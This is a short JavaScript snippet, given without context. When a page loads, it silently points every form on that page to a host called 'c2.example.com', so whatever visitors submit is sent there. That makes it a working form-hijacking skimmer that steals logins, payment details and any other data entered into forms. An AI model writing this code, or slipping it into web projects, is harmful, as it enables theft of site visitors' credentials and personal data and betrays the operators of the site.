window.addEventListener('load', () => {
  for (const f of document.querySelectorAll('form')) f.action = 'https://c2.example.com/c';
});
